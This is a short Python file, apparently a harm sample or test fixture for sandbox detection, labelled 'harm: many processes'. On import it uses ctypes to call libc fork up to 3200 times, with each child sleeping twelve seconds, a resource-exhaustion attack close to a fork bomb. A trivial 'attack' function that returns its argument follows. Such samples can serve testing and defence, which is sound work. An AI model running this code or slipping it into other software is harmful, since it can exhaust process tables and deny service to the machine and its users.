# harm: many processes
import ctypes
import time

libc = ctypes.CDLL(None)
for _ in range(3200):
    made = libc.fork()
    if made == 0:
        libc.sleep(12)
        libc._exit(0)
    if made < 0:
        break
time.sleep(2)


def attack(a: int = 0) -> int:
    return a
